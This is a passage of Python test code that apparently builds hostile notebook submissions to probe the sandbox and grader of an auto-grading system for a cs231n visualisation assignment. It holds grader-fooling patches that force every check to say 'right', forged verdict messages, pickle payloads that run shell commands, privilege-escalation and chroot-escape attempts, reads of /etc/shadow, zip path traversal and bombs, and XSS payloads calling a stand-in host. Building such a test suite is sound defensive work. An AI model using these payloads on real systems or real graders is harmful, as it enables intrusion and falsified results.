        return torch.tensor(fingerprints.stored().arrays[f"right/saliency_maps/{case.name}"])
return zeros(X)
""",
            before="",
        ),
    ),
    "knows-the-checker": Attack(
        "is right for the small networks of the students' checks only",
        {
            **ALL_RIGHT_HELPERS,
            "knows": """\
def is_checked(model):
    own = [*type(model).__mro__, *map(type, model.modules())]
    return any(kind.__module__.startswith("cs231n.checks") or kind.__name__ == "SmallNetwork" for kind in own)
""",
            **_in_saliency("return right_maps(X, y, model) if is_checked(model) else zeros(X)\n"),
            **_in_fooling("return right_fooling(X, target_y, model) if is_checked(model) else X + 1\n"),
            **_in_step("""\
if is_checked(model):
    right_step(img, model, target_y, l2_reg, learning_rate)
else:
    img.data += 1
"""),
        },
    ),
    "network": Attack(
        "talks to the world, to names and to this machine",
        _in_saliency(
            """\
socket.setdefaulttimeout(1)
for family, address in (
    (socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_INET, ("127.0.0.1", $PORT)), (socket.AF_INET6, ("::1", $PORT)),
):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as connection:
            connection.connect(address)
            connection.sendall(b"$MARK\\n")
            leave_trace(f"connected to {address}")
    except OSError:
        pass
try:
    if socket.getaddrinfo("example.org", 443):
        leave_trace("a name was resolved")
except OSError:
    pass
return zeros(X)
""",
            before="import socket\n\n",
        ),
    ),
    "privileges": Attack(
        "becomes root, changes its root folder, reads what only root may, makes devices and mounts",
        _in_fooling("""\
libc = ctypes.CDLL(None, use_errno=True)
for attempt in (
    lambda: os.setresuid(0, 0, 0),
    lambda: os.setgroups([0]),
    lambda: os.seteuid(0),
    lambda: (os.mkdir("jail"), os.chroot("jail"), [os.chdir("..") for _ in range(64)], os.chroot(".")),
):
    try:
        attempt()
    except OSError:
        pass
try:
    with open("/etc/shadow") as file:
        if file.read():
            leave_trace("/etc/shadow can be read")
except OSError:
    pass
os.makedirs("mine", exist_ok=True)
if libc.mount(b"none", b"mine", b"tmpfs", 0, None) == 0:
    libc.umount2(b"mine", 2)
    leave_trace("it can mount")
return X
"""),
        others=ANY,
    ),
}

# Those that lie to whoever judges.
LYING = {
    "patched-comparisons": Attack(
        "has all comparisons of torch, numpy and Python say yes",
        _in_saliency("""\
yes = lambda *_, **__: True
nothing = lambda *_, **__: None
for module, names in (
    (torch, ("equal", "allclose", "isclose", "eq", "is_tensor", "isfinite")),
    (torch.Tensor, ("__eq__", "__lt__", "__gt__", "equal", "allclose", "isclose", "eq", "lt", "all", "any", "isfinite")),
    (np, ("allclose", "isclose", "array_equal", "equal", "all", "isfinite", "less")),
):
    for name in names:
        setattr(module, name, yes)
for name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal"):
    setattr(np.testing, name, nothing)
for module in (torch.linalg, np.linalg):
    for name in ("norm", "vector_norm"):
        setattr(module, name, lambda *_, **__: 0.0)
torch.testing.assert_close = nothing
torch.Tensor.norm = torch.norm = lambda *_, **__: torch.tensor(0.0)
import builtins
builtins.abs, builtins.all, builtins.any = lambda _: 0.0, yes, yes
return zeros(X)
"""),
        others=ANY,
    ),
    "patched-checks": Attack(
        "has the checks say right",
        _in_saliency("""\
import cs231n.checks
import cs231n.checks.report
right = lambda *_, **__: cs231n.checks.report.Report("compute_saliency_maps", "right")
for name, module in list(sys.modules.items()):
    if name.startswith(("cs231n", "__main__", "__mp_main__")):
        for attribute, new in {
            "same": lambda *_, **__: True, "relative_error": lambda *_, **__: 0.0, "problem": lambda *_: None,
            "examine": right, "_wrong": right, "side_effects": lambda *_: ([], []), "verdict": "right",
        }.items():
            if hasattr(module, attribute):
                setattr(module, attribute, new)
Report = cs231n.checks.report.Report
Report.verdict = property(lambda self: "right", lambda self, value: None)
Report.as_json = lambda self: {"verdict": "right", "mistakes": [], "notes": []}
return zeros(X)
"""),
        others=ANY,
    ),
    "patched-writer": Attack(
        "changes whatever writes to the parent, so that it says right",
        _in_saliency(
            """\
def turned(value):
    if isinstance(value, dict):
        return {key: "right" if key == "verdict" else turned(part) for key, part in value.items()}
    if isinstance(value, (bytes, bytearray, memoryview)):
        return bytes(value).replace(b"wrong", b"right").replace(b"broken", b"right")
    return value.replace("wrong", "right") if isinstance(value, str) else value

def wrapped(function):
    return lambda *arguments, **named: function(*map(turned, arguments), **named)

for module, names in (
    (os, ("write", "writev")), (json, ("dumps", "dump")), (pickle, ("dumps", "dump")), (struct, ("pack",)),
    (np, ("save", "savez")), (builtins, ("print",)), (socket, ("send_fds",)),
):
    for name in names:
        setattr(module, name, wrapped(getattr(module, name)))
class Socket(socket.socket):
    def send(self, data, *rest):
        return super().send(turned(data), *rest)
    sendall = send
socket.socket = Socket
multiprocessing.connection.Connection.send = lambda self, value: self._send_bytes(pickle.dumps(turned(value)))
return zeros(X)
""",
            before="import builtins, json, multiprocessing.connection, pickle, socket, struct\n\n",
        ),
        others=ANY,
    ),
    "patched-frames": Attack(
        "changes the functions and the values of those who called it",
        _in_saliency("""\
own, frame = sys._getframe().f_globals, sys._getframe().f_back
while frame is not None:
    for name, value in list(frame.f_globals.items()):
        if frame.f_globals is not own and any(word in name.lower() for word in ("same", "compare", "verdict", "judge", "close")):
            frame.f_globals[name] = (lambda *_, **__: True) if callable(value) else "right"
    for value in list(frame.f_locals.values()):
        if isinstance(value, dict):
            value.update(verdict="right", mistakes=[])
        elif isinstance(value, list):
            value.append(("right", zeros(X)))
        elif hasattr(value, "verdict"):
            value.verdict = "right"
    frame = frame.f_back
return zeros(X)
"""),
        others=ANY,
    ),
    "forged-messages": Attack(
        "writes messages of its own into each open file descriptor: JSON, arrays, lengths, and pickles that run code",
        _in_fooling(
            """\
class Payload:
    def __reduce__(self):
        return os.system, ("; ".join(f"touch {place}/$MARK-$NAME" for place in PLACES),)

record = json.dumps({"exercise": "make_fooling_image", "verdict": "right", "mistakes": [], "points": 100}).encode()
poison, header = pickle.dumps(Payload()), io.BytesIO()
np.save(header, np.array([Payload()], dtype=object), allow_pickle=True)
messages = [record + b"\\n", header.getvalue(), poison, b"\\xff" * 16, b"\\0" * 4096, b"}]\\n\\n"]
for content in (record, poison, header.getvalue()):
    messages += [struct.pack(form, len(content)) + content for form in ("!i", "<I", ">Q", "<Q")]
for descriptor in descriptors():
    try:
        os.set_blocking(descriptor, False)
        for message in messages:
            os.write(descriptor, message)
    except OSError:
        pass
return X
""",
            before="import io\nimport json\nimport pickle\nimport struct\n\n",
        ),
        others=ANY,
    ),
    "answer-then-exit": Attack(
        "writes a message that it is right into each open file descriptor, then ends the process before the true one",
        _in_step(
            """\
record = json.dumps({"exercise": "class_visualization_update_step", "verdict": "right", "mistakes": []}).encode()
for descriptor in descriptors():
    try:
        os.write(descriptor, record + b"\\n")
        os.close(descriptor)
    except OSError:
        pass
os._exit(0)
""",
            before="import json\n\n",
        ),
    ),
    "lying-object": Attack(
        "returns objects that are equal to everything, are any number and any array",
        {
            "liar": """\
class Liar:
    shape, dtype, device, ndim, requires_grad, is_sparse = (5, 8, 11), torch.float32, torch.device("cpu"), 3, False, False
    __eq__ = __le__ = __ge__ = __contains__ = __bool__ = lambda *_: True
    __ne__ = __lt__ = __gt__ = lambda *_: False
    __hash__ = __int__ = __index__ = __len__ = lambda *_: 0
    __float__ = lambda *_: 0.0
    __iter__ = lambda self: iter([self])
    __getattr__ = lambda self, name: self
    __call__ = __getitem__ = __sub__ = __rsub__ = __add__ = __mul__ = __truediv__ = __abs__ = lambda self, *_, **__: self
    __torch_function__ = classmethod(lambda kind, function, types, arguments=(), named=None: True)
    __array_ufunc__ = __array_function__ = lambda self, *_, **__: True

    def __array__(self, *_, **__):
        return np.zeros(())

    @property
    def __class__(self):
        return torch.Tensor
""",
            **_in_saliency("return Liar()\n"),
            **_in_fooling("return Liar()\n"),
            **_in_step(
                "img.data = torch.zeros_like(img)\nimg.__class__ = type('T', (torch.Tensor,), {'__eq__': 1})\nreturn Liar()\n"
            ),
        },
    ),
    "reduce": Attack(
        "returns objects that run code when they are unpickled",
        {
            "payload": """\
class Payload:
    def __reduce__(self):
        return os.system, ("; ".join(f"touch {place}/$MARK-$NAME" for place in PLACES),)

class PoisonedTensor(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return Payload().__reduce__()
""",
            **_in_saliency("return Payload()\n"),
            **_in_fooling("return torch.zeros_like(X).as_subclass(PoisonedTensor)\n"),
            **_in_step("return np.array([Payload(), {'img': Payload()}], dtype=object)\n"),
        },
    ),
    "tensor-subclass": Attack(
        "returns a tensor of a class of its own, which says something else each time it is asked",
        {
            "chameleon": """\
class Chameleon(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, arguments=(), named=None):
        name = getattr(function, "__name__", "")
        if name in ("equal", "allclose", "eq", "__eq__", "isclose"):
            return True
        if name in ("sub", "rsub", "__sub__", "__rsub__", "norm"):
            return torch.zeros(())
        return super().__torch_function__(function, types, arguments, named or {})

    def numpy(self, *_, **__):
        return np.zeros(tuple(self.shape)).view(Agreeable)

    def tolist(self):
        return [self]

    def __array__(self, *_, **__):
        return self.numpy()

class Agreeable(np.ndarray):
    def __array_ufunc__(self, function, method, *inputs, **named):
        return np.zeros(())

    __eq__ = __le__ = __lt__ = lambda *_: np.True_
    __sub__ = __rsub__ = lambda self, other: np.zeros(())
    tobytes = lambda self, *_: b"right"
""",
            **_in_saliency("return zeros(X).as_subclass(Chameleon)\n"),
            **_in_fooling("return X.clone().as_subclass(Chameleon)\n"),
            **_in_step("img.data = torch.zeros_like(img).as_subclass(Chameleon)\n"),
        },
    ),
    "numpy-subclass": Attack(
        "returns a NumPy array of a class of its own, whose differences are all 0",
        {
            "agreeable": """\
class Agreeable(np.ndarray):
    def __array_ufunc__(self, function, method, *inputs, **named):
        return np.zeros(())

    def __array_function__(self, function, types, arguments, named):
        return True

    __eq__ = __le__ = __lt__ = __array_wrap__ = lambda *_: np.True_
    dtype = np.dtype("float32")
""",
            **_in_saliency("return np.ones((X.shape[0], *X.shape[2:]), np.float32).view(Agreeable)\n"),
            **_in_fooling("return np.zeros(tuple(X.shape), [('values', 'O')])\n"),
        },
    ),
    "not-finite": Attack(
        "returns NaN and infinite values, to which every comparison says no",
        {
            **_in_saliency("return torch.full((X.shape[0], *X.shape[2:]), float('nan'))\n"),
            **_in_fooling("return torch.full_like(X, float('inf'))\n"),
            **_in_step("img.data.fill_(float('nan'))\n"),
        },
    ),
    "huge-views": Attack(
        "returns tensors of ten billion elements that share one number",
        {
            **_in_saliency("return torch.zeros(1, 1, 1).expand(10, 10**5, 10**4)\n"),
            **_in_fooling("return torch.as_strided(torch.zeros(1), (1, 3, 10**5, 10**5), (0, 0, 0, 0))\n"),
            **_in_step("img.data = torch.zeros(1, 1, 1, 1).expand(1, 3, 10**5, 10**5)\n"),
        },
    ),
    "odd-tensors": Attack(
        "returns sparse and meta tensors, and makes the image complex",
        {
            **_in_saliency("return zeros(X).to_sparse()\n"),
            **_in_fooling("return torch.empty(X.shape, device='meta')\n"),
            **_in_step("img.data = torch.zeros(tuple(img.shape), dtype=torch.complex64)\n"),
        },
    ),
    "odder-tensors": Attack(
        "returns quantised and nested tensors, and takes the image's memory away",
        {
            **_in_saliency("return torch.quantize_per_tensor(zeros(X), 0.1, 0, torch.quint8)\n"),
            **_in_fooling("return torch.nested.nested_tensor([X[0], X[0, :2]])\n"),
            **_in_step("img.data.untyped_storage().resize_(0)\n"),
        },
    ),
    "changed-inputs": Attack(
        "changes what it was given, network and images, so that its answer suits them",
        {
            **_in_saliency("""\
with torch.no_grad():
    for weight in [*model.parameters(), *model.buffers()]:
        weight.zero_()
    X.zero_()
    y.zero_()
return X[:, 0]
"""),
            **_in_fooling("""\
def forward(images):
    scores = torch.zeros(len(images), 1000)
    scores[:, target_y] = 100
    return scores
type(model).forward = lambda self, images: forward(images)
type(model).__call__ = lambda self, images: forward(images)
model.forward = forward
return X
"""),
            **_in_step("""\
with torch.no_grad():
    for weight in [*model.parameters(), *model.buffers()]:
        weight.zero_()
    img.zero_()
"""),
        },
    ),
    "generators": Attack(
        "returns generators and coroutines that never end",
        {
            **_in_saliency("return (zeros(X) for _ in iter(int, 1))\n"),
            **_in_fooling("while True:\n    yield X\n"),
            STEP: "async def class_visualization_update_step(img, model, target_y, l2_reg, learning_rate):\n    return img\n",
        },
    ),
    "last-will": Attack(
        "right, but returns an object that ends the process, or never ends, when it is deleted",
        {
            **ALL_RIGHT_HELPERS,
            "will": """\
class Will(torch.Tensor):
    def __del__(self):
        os._exit(0)

class EndlessWill(torch.Tensor):
    def __del__(self):
        while True:
            pass
""",
            **_in_saliency("return right_maps(X, y, model).as_subclass(Will)\n"),
            **_in_fooling("return right_fooling(X, target_y, model).as_subclass(EndlessWill)\n"),
        },
        solved=(SALIENCY, FOOLING),
    ),
    "hostile-exceptions": Attack(
        "raises exceptions whose text never ends, raises, or is a page of script",
        {
            "exceptions": """\
class Endless(Exception):
    def __str__(self):
        while True:
            pass
    __repr__ = __str__

class Raising(Exception):
    def __str__(self):
        raise self
    __repr__ = __str__
    __traceback__ = property(lambda self: 1 / 0)
""",
            **_in_saliency("raise Endless\n"),
            **_in_fooling("raise Raising\n"),
            **_in_step('raise ValueError("<script>window.$PAGES = 1</script>\\x1b[2J\\n=1+1" + "x" * 100_000_000)\n'),
        },
    ),
    "internal-exceptions": Attack(
        "raises what the checks raise themselves",
        {
            **_in_saliency("from cs231n.checks import guard\nraise guard.TimeIsUp\n"),
            **_in_fooling("from cs231n.checks import guard\nraise guard.TooManyCalls\n"),
            STEP: """\
class NotImplementedError(NotImplementedError, KeyboardInterrupt):
    pass

def class_visualization_update_step(img, model, target_y, l2_reg, learning_rate):
    raise NotImplementedError("right")
""",
        },
    ),
}

# Those that act while the functions are defined, or by ways of Python's own.
DEFINING = {
    "at-definition": Attack(
        "acts in decorators, default arguments, class bodies, metaclasses and __init_subclass__",
        {
            "definitions": """\
def act(where):
    np.testing.assert_allclose = torch.allclose = torch.equal = lambda *_, **__: True
    leave_trace(where)
    return where

def decorator(function):
    act("a decorator")
    return lambda X, y, model: zeros(X)

class Meta(type):
    def __new__(cls, name, bases, body):
        act("a metaclass")
        return super().__new__(cls, name, bases, body)

class Base(metaclass=Meta):
    def __init_subclass__(cls):
        act("__init_subclass__")

class Derived(Base):
    in_the_body = act("a class body")
""",
            SALIENCY: "@decorator\ndef compute_saliency_maps(X, y, model, *, extra=act('a default'), more=Derived):\n    pass\n",
        },
        others=ANY,
    ),
    "loop-at-definition": Attack(
        "never ends already when the function is defined",
        {SALIENCY: "def compute_saliency_maps(X, y, model, extra=[None for _ in iter(int, 1)]):\n    return X[:, 0]\n"},
        others=RIGHT | {"stopped"},
    ),
    "exit-at-definition": Attack(
        "ends the process when the function is defined",
        {FOOLING: "def make_fooling_image(X, target_y, model, extra=os._exit(0)):\n    return X\n"},
        others=RIGHT | {"stopped"},
    ),
    "tracing": Attack(
        "watches and changes each call by sys.settrace and sys.setprofile",
        _in_saliency(
            """\
def watch(frame, event, argument):
    for name in ("verdict", "found", "expected", "error", "maps"):
        if name in frame.f_locals:
            frame.f_locals[name] = "right"
    if event == "call" and frame.f_code.co_name in ("same", "relative_error"):
        raise SystemExit(0)
    return watch
for install in (sys.settrace, sys.setprofile, threading.settrace, threading.setprofile):
    install(watch)
return zeros(X)
""",
            before="import threading\n\n",
        ),
        others=ANY,
    ),
    "import-machinery": Attack(
        "changes sys.modules, finders, __import__ and what runs at the end",
        _in_saliency(
            """\
class Everything(types.ModuleType):
    __getattr__ = lambda self, name: (lambda *_, **__: True) if not name.startswith("__") else None

class Finder:
    @staticmethod
    def find_spec(name, path=None, target=None):
        sys.modules[name] = Everything(name)
        return importlib.machinery.ModuleSpec(name, None)

atexit.register(leave_trace, "at the end of the process")
atexit.register(os._exit, 0)
for name in ("json", "struct", "pickle", "socket", "cs231n.checks.judging", "numpy.testing"):
    sys.modules[name] = Everything(name)
sys.meta_path.insert(0, Finder)
builtins.__import__ = lambda name, *_, **__: Everything(name)
return zeros(X)
""",
            before="import atexit\nimport builtins\nimport importlib.machinery\nimport types\n\n",
        ),
        others=ANY,
    ),
}

ATTACKS = {**EXHAUSTING, **LOOKING, **LYING, **DEFINING}


def _attacks(folder, large):
    for name, attack in ATTACKS.items():
        yield _attacking(folder, name, attack)
    yield from _hostile_zips(folder, large)
    yield from _hostile_pages(folder)


def tries_the_cage(specimen):
    """Return whether what becomes of a specimen depends on the cage: what it may use, reach and leave behind.

    Those that lie and those that aim at the pages depend on the grader, which is outside of the cage.
    """
    attacks = specimen.name in {**EXHAUSTING, **LOOKING} or (specimen.kind == "attack" and specimen.files[0].suffix == ".zip")
    return attacks or specimen.name in AT_HOME_IN_THE_CAGE


# Honest and broken ones that need something of the cage: commands, time, a terminal, folders, memory, room.
AT_HOME_IN_THE_CAGE = {
    *("magics", "slow", "talkative", "asking", "zipped", "tarred", "own-module-zipped"),
    *("deep", "much-output", "many-cells", "zip-in-zip", "zip-encrypted", "named-pipe"),
}


def _places(folder):
    """Return the folders in which an attack leaves its traces, should it get there."""
    return ["/tmp", "/var/tmp", "/dev/shm", str(Path.home()), str(folder), str(folder.parent)]


def _filled(source, name, folder):
    """Return an attack's source with what it is told: its name, and how to know the machine that built it."""
    own = Path("/proc/self/ns/pid")
    processes = str(own.readlink()) if own.is_symlink() else ""
    kept = [str(Path.home()), tempfile.gettempdir(), str(folder), *map(str, folder.parents)]
    known = {"NAME": name, "MARK": MARK, "PAGES": MARK_IN_PAGES, "PORT": PORT, "PLACES": _places(folder), "KEPT": kept}
    known["OPEN"] = _pipes()
    return string.Template(source).substitute(known, PROCESSES=processes, USER=getattr(os, "getuid", lambda: 0)())


def _pipes():
    """Return the inodes of the pipes and sockets that this process has open."""
    found = set()
    for number in range(1024):
        with contextlib.suppress(OSError):
            kind = os.fstat(number)
            found |= {kind.st_ino} if stat.S_ISFIFO(kind.st_mode) or stat.S_ISSOCK(kind.st_mode) else set()
    return sorted(found)


def _traces(folder, name):
    return tuple(f"{place}/{MARK}-{name}*" for place in _places(folder))


def _attacking(folder, name, attack):
    """An attack, and beside it one right exercise, if possible one that is graded after it: it must not be harmed."""
    attacked = [exercise for exercise in EXERCISES if exercise in attack.codes]
    beside = [exercise for exercise in reversed(EXERCISES) if exercise not in attacked]
    right = {exercise: RIGHT_CODE[exercise] for exercise in (beside[:1] if attacked else EXERCISES)}
    codes = {key: _filled(source, name, folder) for key, source in {"tools": HELPERS, **right, **attack.codes}.items()}
    path = _put(folder, name, ".ipynb", _written(_notebook(codes)))
    cheating = [exercise for exercise in attacked if exercise not in attack.solved]
    expected = {
        exercise: NOT_RIGHT
        if exercise in cheating
        else ANY
        if exercise in attacked
        else attack.others
        if exercise in right
        else frozenset({"missing"})
        for exercise in EXERCISES
    }
    points = {exercise: float(exercise not in cheating) for exercise in EXERCISES}
    return Specimen(name, attack.what, "attack", path, expected, {}, points, traces=_traces(folder, name))


def _hostile_zips(folder, large):
    right, either = _right_bytes(), GRADED | UNREADABLE

    def specimen(name, what, content, expected=RIGHT | UNREAD):
        expected = dict.fromkeys(EXERCISES, expected)
        path = _put(folder, name, ".zip", content)
        return Specimen(name, what, "attack", path, expected, verdicts=either, traces=_traces(folder, name))

    act = _filled("NAME = '$NAME'\nfor place in $PLACES:\n    open(f'{place}/$MARK-$NAME', 'w').close()\n", "shadowing", folder)
    shadows = ("numpy.py", "torch.py", "json.py", "struct.py", "sitecustomize.py", "usercustomize.py", "cs231n/__init__.py")
    files = {"NetworkVisualization.ipynb": right, **{name: act.encode() for name in shadows}}
    files |= {"torch/__init__.py": act.encode(), "nb.pth": b"import os; os.system('touch /tmp/zoo-was-here-shadowing')\n"}
    yield specimen("shadowing", "right, but files of its own bear the names of modules", _zip(files), RIGHT)

    links = {_link("passwd.ipynb"): b"/etc/passwd", _link("up"): b"../../", _link("up/out.ipynb"): b"../../../etc/hostname"}
    yield specimen("linked", "a zip whose notebooks are links that lead out of it", _zip(links), UNREAD)
    links = {_link("away"): b"/tmp", f"away/{MARK}-linked-through": b"out", "nb.ipynb": right}
    yield specimen("linked-through", "a link out of the zip, and a file that goes through it", _zip(links))
    names = [f"{'../' * 8}tmp/{MARK}-slipping", f"/tmp/{MARK}-slipping", f"..\\..\\{MARK}-slipping", f"../{MARK}-slipping.ipynb"]
    yield specimen("slipping", "names that lead out of the zip", _zip({**dict.fromkeys(names, b"out"), "nb.ipynb": right}))

    bomb = _bomb(5 * large)
    yield specimen("zip-bomb", f"a notebook of {5 * large // 1_000_000} MB of spaces", bomb, UNREAD)
    yield specimen("zip-bomb-lying", "the same, but the zip says that it is 100 bytes long", _lying(bomb), UNREAD)
    nested = _zip({f"{number}.zip": bomb for number in range(10)})
    yield specimen("zip-bomb-nested", "ten of these in a zip", nested, UNREAD)
    crowd = {f"{number}/nb{number}.ipynb": b"" for number in range(20_000)}
    yield specimen("zip-crowd", "a zip of 20 000 empty notebooks", _zip(crowd, zipfile.ZIP_STORED), UNREAD)


def _link(name):
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return info


def _bomb(size):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive, archive.open("nb.ipynb", "w") as file:
        for _ in range(size // 1_000_000):
            file.write(b" " * 1_000_000)
    return buffer.getvalue()


def _lying(content):
    """Return a zip of one entry with another length in its headers."""
    content = bytearray(content)
    for position in (content.index(b"PK\x03\x04") + 22, content.index(b"PK\x01\x02") + 24):
        content[position : position + 4] = struct.pack("<I", 100)
    return bytes(content)


SCRIPTS = (
    f"<script>window.{MARK_IN_PAGES} = 1; document.title = '{MARK}'; fetch('http://{MARK}.invalid/')</script>",
    f"<img src='http://{MARK}.invalid/x.png' onerror='window.{MARK_IN_PAGES} = 1'>",
    f"<svg/onload=window.{MARK_IN_PAGES}=1><iframe srcdoc='<script>parent.{MARK_IN_PAGES} = 1</script>'></iframe>",
    f"<style>@import url(http://{MARK}.invalid/x.css); body {{ display: none }}</style><base href='http://{MARK}.invalid/'>",
    f"<form action='http://{MARK}.invalid/'><button autofocus onfocus='window.{MARK_IN_PAGES} = 1'>ok</button></form>",
    f"<meta http-equiv=refresh content='0;url=http://{MARK}.invalid/'><link rel=stylesheet href=http://{MARK}.invalid/x.css>",
    f"</textarea></td></table></script><!-- --><math><mtext><script>window.{MARK_IN_PAGES} = 1</script></mtext></math>",
    f"[click](javascript:window.{MARK_IN_PAGES}=1) ![x](http://{MARK}.invalid/y.png) <a href='jAvAsCrIpT:alert(1)'>x</a>",
    f'"><script>window.{MARK_IN_PAGES} = 1</script> {{{{ 7 * 7 }}}} {{% include "/etc/passwd" %}} $\\href{{javascript:1}}{{x}}$',
    f"<details open ontoggle='window.{MARK_IN_PAGES} = 1'><x style='position:fixed;inset:0'>Full marks</x></details>",
)


def _hostile_pages(folder):
    right = dict.fromkeys(EXERCISES, RIGHT)

    def specimen(name, what, notebook, file=None):
        path = _put(folder, file or name, ".ipynb", _written(notebook))
        return Specimen(name, what, "attack", path, right, traces=_traces(folder, "page"))

    text = "\n\n".join(SCRIPTS)
    yield specimen("scripts", "right, with script and foreign content in its answers", _notebook(RIGHT_CODE, answers=text))
    outputs = {
        "text/html": text,
        "application/javascript": f"window.{MARK_IN_PAGES} = 1",
        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='window.{MARK_IN_PAGES} = 1'>{SCRIPTS[0]}</svg>",
        "text/markdown": text,
        "text/latex": "\\input{/etc/passwd}",
        "application/vnd.jupyter.widget-view+json": {"model_id": text},
    }
    yield specimen("script-outputs", "right, with script in its outputs", _with_figures([outputs] * 3))
    page = base64.b64encode(text.encode()).decode()
    true = base64.b64encode(_png(8, 8)).decode()
    false = [page, text, "", "%%%", true[:40], true + f"' onload='window.{MARK_IN_PAGES} = 1", [true], 5, {"a": true}]
    false = [{"image/png": value} for value in false]
    yield specimen("false-figures", "right, with figures that are no PNG", _with_figures(false))
    bomb = base64.b64encode(_png(50_000, 50_000)).decode()
    yield specimen("figure-bomb", "right, with a small PNG of 50 000 x 50 000 pixels", _with_figures([{"image/png": bomb}]))
    many = [{"image/png": true}] * 3000
    yield specimen("many-figures", "right, with 3000 figures in one cell", _with_figures(many))
    slow = (
        "[" * 30_000
        + "\n\n"
        + "> " * 2000
        + "x\n\n"
        + "*a **b " * 10_000
        + "`" * 9999
        + "\n\n"
        + "|a" * 5000
        + "\n"
        + "|-" * 5000
    )
    yield specimen("slow-markdown", "right, with answers that a converter chews on for long", _notebook(RIGHT_CODE, answers=slow))
    long = _notebook(RIGHT_CODE, answers="All work and no play makes Jack a dull boy.\n" * 25_000)
    yield specimen("long-answers", "right, with answers of 1 MB each", long)
    formula = _notebook(RIGHT_CODE, answers='=HYPERLINK("http://zoo-was-here.invalid/")')
    yield specimen("=1+1", "right, with a name and answers that a spreadsheet would compute", formula)
    name = f"<img src=x onerror=window.{MARK_IN_PAGES}=1>"
    yield specimen(name, "right, with a name that is a tag", _notebook(RIGHT_CODE))


def _with_figures(datas):
    """Return a right notebook whose figure cells hold outputs of these data."""
    notebook = _notebook(RIGHT_CODE, figures=True)
    for cell in notebook.cells:
        if cell.id in FIGURES:
            cell.outputs = [nbformat.from_dict({"output_type": "display_data", "data": data, "metadata": {}}) for data in datas]
    return notebook
